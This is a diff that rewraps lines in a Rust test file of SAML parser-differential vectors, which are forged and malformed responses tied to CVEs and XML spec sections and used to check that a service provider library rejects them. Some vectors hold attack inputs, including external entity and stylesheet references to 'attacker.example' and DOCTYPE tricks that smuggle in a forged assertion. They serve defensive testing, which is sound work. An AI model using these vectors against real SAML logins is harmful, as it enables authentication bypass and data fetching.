@@ -1,4 +1,5 @@
-//! Parsers that read one message in two ways, or do more than read it: what stands around a live signed assertion is not the
+//! Parsers that read one message in two ways, or do more than read it: what stands around a live signed assertion is
+//! not the
 //! XML that the library takes, so that nobody has to guess what another parser made of it.
 
 use saml_sp::testing::TestIdpError;
@@ -48,7 +49,8 @@ fn in_start_tag(stage: &Stage, inside: &str) -> Recipe {
     Ok(xml.replacen("<samlp:Response ", &format!("<samlp:Response {inside} "), 1).into())
 }
 
-/// A forged message and the genuine one, so that a parser that ends its DOCTYPE early reads the forged one, and one that
+/// A forged message and the genuine one, so that a parser that ends its DOCTYPE early reads the forged one, and one
+/// that
 /// ends it late the genuine one.
 fn two_readings(stage: &Stage, opens: &str, closes: &str) -> Recipe {
     let forged = stage.forged_response()?.to_xml().replace('"', if opens.contains('"') { "'" } else { "\"" });
@@ -114,7 +116,8 @@ vectors! { "parser";
     /// A DOCTYPE that declares nothing.
     doctype_alone: "CVE-2025-25291", ALL, DOCTYPE => |stage| behind(stage, "<!DOCTYPE samlp:Response>");
 
-    /// An entity's value in single quotes ends the DOCTYPE for a parser that does not know quotes there: it reads the forged
+    /// An entity's value in single quotes ends the DOCTYPE for a parser that does not know quotes there: it reads the
+    /// forged
     /// message, and takes the genuine one for a comment.
     doctype_entity_value_in_single_quotes: "CVE-2025-25291, CVE-2025-25292", ALL, DOCTYPE =>
         |stage| two_readings(stage, "[<!ENTITY e '\">]>", "<!-- '> ]>");
@@ -224,13 +227,16 @@ vectors! { "parser";
         |stage| behind(stage, "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/x.dtd\">%x;]>");
 
     /// An entity of HTML that XML does not know, without any DOCTYPE.
-    entity_that_nobody_declared: "CVE-2016-10149", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>&nbsp;</x>");
+    entity_that_nobody_declared: "CVE-2016-10149", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<x>&nbsp;</x>");
 
     /// The same in an attribute.
-    entity_in_an_attribute: "CVE-2016-10149", ASSERTION_SIGNED, BROKEN => |stage| in_start_tag(stage, "Consent=\"&x;\"");
+    entity_in_an_attribute: "CVE-2016-10149", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_start_tag(stage, "Consent=\"&x;\"");
 
     /// A predefined entity in capitals, as HTML allows.
-    predefined_entity_in_capitals: "CVE-2016-10149", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>&LT;</x>");
+    predefined_entity_in_capitals: "CVE-2016-10149", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<x>&LT;</x>");
 
     // ---- Processing instructions
 
@@ -239,7 +245,8 @@ vectors! { "parser";
         |stage| behind(stage, "<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.example/x.xsl\"?>");
 
     /// An instruction in the wrapper, which some parsers keep, some drop, and some take for a node of text.
-    instruction_in_the_wrapper: "VU#475445", ASSERTION_SIGNED, INSTRUCTION => |stage| in_wrapper(stage, "<?php echo 1; ?>");
+    instruction_in_the_wrapper: "VU#475445", ASSERTION_SIGNED, INSTRUCTION =>
+        |stage| in_wrapper(stage, "<?php echo 1; ?>");
 
     /// An instruction behind the root that hides a second document from those who know instructions.
     instruction_hides_a_second_document: "CVE-2025-25291", ALL, INSTRUCTION => |stage| {
@@ -252,10 +259,12 @@ vectors! { "parser";
         |stage| in_wrapper(stage, "<?xml version=\"1.0\" encoding=\"UTF-7\"?>");
 
     /// The reserved target in capitals.
-    declaration_in_capitals: "XML 1.0 section 2.6", ALL, INSTRUCTION => |stage| behind(stage, "<?XML version=\"1.0\"?>");
+    declaration_in_capitals: "XML 1.0 section 2.6", ALL, INSTRUCTION =>
+        |stage| behind(stage, "<?XML version=\"1.0\"?>");
 
     /// White space before the declaration makes it an instruction with a reserved name.
-    declaration_behind_white_space: "XML 1.0 section 2.8", ALL, BROKEN => |stage| behind(stage, "\n<?xml version=\"1.0\"?>");
+    declaration_behind_white_space: "XML 1.0 section 2.8", ALL, BROKEN =>
+        |stage| behind(stage, "\n<?xml version=\"1.0\"?>");
 
     // ---- Encodings
 
@@ -295,7 +304,8 @@ vectors! { "parser";
     };
 
     /// A byte of Latin-1 that nothing declares.
-    latin_1_undeclared: "XML 1.0 section 4.3.3", ASSERTION_SIGNED, NOT_UTF8 => |stage| in_wrapper(stage, b"<x>\xe9</x>");
+    latin_1_undeclared: "XML 1.0 section 4.3.3", ASSERTION_SIGNED, NOT_UTF8 =>
+        |stage| in_wrapper(stage, b"<x>\xe9</x>");
 
     /// EBCDIC.
     ebcdic_throughout: "XML 1.0 appendix F", ALL, NOT_UTF8, not_live "no reader of ASCII finds a tag in it" => |stage| {
@@ -316,7 +326,8 @@ vectors! { "parser";
         |stage| in_wrapper(stage, b"\xc0\xbcsaml:Assertion/\xc0\xbe");
 
     /// A surrogate in UTF-8, half a character.
-    surrogate_in_utf_8: "RFC 3629 section 3", ASSERTION_SIGNED, NOT_UTF8 => |stage| in_wrapper(stage, b"<x>\xed\xa0\x80</x>");
+    surrogate_in_utf_8: "RFC 3629 section 3", ASSERTION_SIGNED, NOT_UTF8 =>
+        |stage| in_wrapper(stage, b"<x>\xed\xa0\x80</x>");
 
     /// A character cut off at the end of the message.
     utf_8_cut_off: "RFC 3629 section 3", ALL, NOT_UTF8 => |stage| before(stage, b"\xe2\x82");
@@ -350,23 +361,28 @@ vectors! { "parser";
     nul_by_reference: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>&#0;</x>");
 
     /// A control character by reference.
-    control_character_by_reference: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>&#xB;</x>");
+    control_character_by_reference: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<x>&#xB;</x>");
 
     /// A surrogate by reference.
-    surrogate_by_reference: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>&#xD800;</x>");
+    surrogate_by_reference: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<x>&#xD800;</x>");
 
     /// U+FFFE, which is no character.
-    noncharacter_by_reference: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>&#xFFFE;</x>");
+    noncharacter_by_reference: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<x>&#xFFFE;</x>");
 
     /// A number that is `A` in 32 bits.
     reference_that_overflows: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
         |stage| in_wrapper(stage, "<x>&#4294967361;</x>");
 
     /// A sign in a number, which `parse` of many languages takes.
-    reference_with_a_sign: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>&#+65;</x>");
+    reference_with_a_sign: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<x>&#+65;</x>");
 
     /// A reference without its end.
-    reference_without_an_end: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>&#65</x>");
+    reference_without_an_end: "XML 1.0 section 4.1", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<x>&#65</x>");
 
     /// An ampersand by itself.
     ampersand_alone: "XML 1.0 section 2.4", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>a & b</x>");
@@ -375,13 +391,15 @@ vectors! { "parser";
     cdata_end_in_text: "XML 1.0 section 2.4", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x>]]></x>");
 
     /// `--` in a comment: some end it there.
-    double_hyphen_in_a_comment: "XML 1.0 section 2.5", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<!-- -- ><saml:x/><!-- -->");
+    double_hyphen_in_a_comment: "XML 1.0 section 2.5", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<!-- -- ><saml:x/><!-- -->");
 
     /// A comment that ends in three hyphens.
     comment_with_three_hyphens: "XML 1.0 section 2.5", ALL, BROKEN => |stage| before(stage, b"<!-- --->");
 
     /// A conditional section, which belongs into a document type.
-    conditional_section: "XML 1.0 section 3.4", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<![IGNORE[ <x/> ]]>");
+    conditional_section: "XML 1.0 section 3.4", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<![IGNORE[ <x/> ]]>");
 
     // ---- One root
 
@@ -430,7 +448,8 @@ vectors! { "parser";
     tags_that_overlap: "XML 1.0 section 3", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<a><b></a></b>");
 
     /// An end tag with an attribute, whatever that may be.
-    end_tag_with_an_attribute: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<a></a b=\"\">");
+    end_tag_with_an_attribute: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<a></a b=\"\">");
 
     // ---- Attributes
 
@@ -448,13 +467,16 @@ vectors! { "parser";
         |stage| in_wrapper(stage, "<a:x xmlns:a=\"urn:x\" xmlns:a=\"urn:y\"/>");
 
     /// `<` in an attribute: a lax parser sees a tag begin.
-    less_than_in_an_attribute: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x y=\"<z>\"/>");
+    less_than_in_an_attribute: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<x y=\"<z>\"/>");
 
     /// An attribute without quotes, as HTML has them.
-    attribute_without_quotes: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x y=z></x>");
+    attribute_without_quotes: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<x y=z></x>");
 
     /// An attribute without a value.
-    attribute_without_a_value: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<x y></x>");
+    attribute_without_a_value: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<x y></x>");
 
     /// Two attributes without white space between them.
     attributes_without_space_between: "XML 1.0 section 3.1", ASSERTION_SIGNED, BROKEN =>
@@ -469,7 +491,8 @@ vectors! { "parser";
     };
 
     /// A line end in the Destination, which a parser has to make a space; a URL with a space is another.
-    destination_with_a_line_end: "XML 1.0 section 3.3.3", RESPONSE_UNSIGNED, Outcome::Reject("destination-mismatch") => |stage| {
+    destination_with_a_line_end: "XML 1.0 section 3.3.3", RESPONSE_UNSIGNED,
+        Outcome::Reject("destination-mismatch") => |stage| {
         let xml = stage.genuine()?.to_xml();
         Ok(xml.replacen("/saml/acs\"", "/saml/\nacs\"", 1).into())
     };
@@ -491,21 +514,24 @@ vectors! { "parser";
         Outcome::Reject("xml-undeclared-prefix") => |stage| in_wrapper(stage, "<x evil:y=\"\"/>");
 
     /// A name with an empty prefix, which Go's parser lost on the way out.
-    prefix_empty: "Nurminen 2020, XML round trips of Go", ASSERTION_SIGNED, BROKEN => |stage| in_wrapper(stage, "<:x :y=\"\"/>");
+    prefix_empty: "Nurminen 2020, XML round trips of Go", ASSERTION_SIGNED, BROKEN =>
+        |stage| in_wrapper(stage, "<:x :y=\"\"/>");
 
     /// A name with two colons.
     prefix_twice: "Nurminen 2020, XML round trips of Go", ASSERTION_SIGNED, BROKEN =>
         |stage| in_wrapper(stage, "<a:b:c xmlns:a=\"urn:x\"/>");
 
     /// The prefix `xml` given another meaning.
-    prefix_xml_rebound: "Namespaces in XML 1.0 section 3", ALL, BROKEN => |stage| in_start_tag(stage, "xmlns:xml=\"urn:x\"");
+    prefix_xml_rebound: "Namespaces in XML 1.0 section 3", ALL, BROKEN =>
+        |stage| in_start_tag(stage, "xmlns:xml=\"urn:x\"");
 
     /// Another prefix with the meaning of `xml`.
     prefix_with_the_meaning_of_xml: "Namespaces in XML 1.0 section 3", ALL, BROKEN =>
         |stage| in_start_tag(stage, "xmlns:x=\"http://www.w3.org/XML/1998/namespace\"");
 
     /// The prefix `xmlns` declared.
-    prefix_xmlns_declared: "Namespaces in XML 1.0 section 3", ALL, BROKEN => |stage| in_start_tag(stage, "xmlns:xmlns=\"urn:x\"");
+    prefix_xmlns_declared: "Namespaces in XML 1.0 section 3", ALL, BROKEN =>
+        |stage| in_start_tag(stage, "xmlns:xmlns=\"urn:x\"");
 
     /// The namespace of declarations as the default.
     namespace_of_declarations: "Namespaces in XML 1.0 section 3", ALL, BROKEN =>
@@ -530,7 +556,8 @@ vectors! { "parser";
     // ---- What other software would act on
 
     /// `xml:id` with the signed ID on another element.
-    xml_id_with_the_signed_id: "xml:id 1.0; Somorovsky et al. 2012", ASSERTION_SIGNED, Outcome::RejectBy(|shape| match shape {
+    xml_id_with_the_signed_id: "xml:id 1.0; Somorovsky et al. 2012", ASSERTION_SIGNED,
+        Outcome::RejectBy(|shape| match shape {
         Shape::EncryptedAssertionSigned => "decrypt-content",
         Shape::EncryptedBothSigned => "digest-mismatch",
         _ => "xml-duplicate-id",
@@ -621,15 +648,18 @@ vectors! { "parser";
         |stage| field(stage, |field| field + "\u{a0}");
 
     /// Nothing at all.
-    base64_of_nothing: "RFC 4648", &[Shape::AssertionSigned], Outcome::Reject("message-empty"), not_live "it is empty" =>
+    base64_of_nothing: "RFC 4648", &[Shape::AssertionSigned],
+        Outcome::Reject("message-empty"), not_live "it is empty" =>
         |_| Ok(Made::field(""));
 
     /// White space and nothing else.
-    base64_of_white_space: "RFC 4648", &[Shape::AssertionSigned], Outcome::Reject("message-empty"), not_live "it is empty" =>
+    base64_of_white_space: "RFC 4648", &[Shape::AssertionSigned],
+        Outcome::Reject("message-empty"), not_live "it is empty" =>
         |_| Ok(Made::field(" \r\n"));
 
     /// Compressed as for the Redirect binding, which never carries a Response.
-    deflate_in_a_form: "bindings 3.4.4.1", &[Shape::AssertionSigned], NOT_UTF8, not_live "it has to be inflated first" => |stage| {
+    deflate_in_a_form: "bindings 3.4.4.1", &[Shape::AssertionSigned],
+        NOT_UTF8, not_live "it has to be inflated first" => |stage| {
         use std::io::Write as _;
         let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
         encoder.write_all(stage.genuine()?.to_xml().as_bytes()).unwrap();
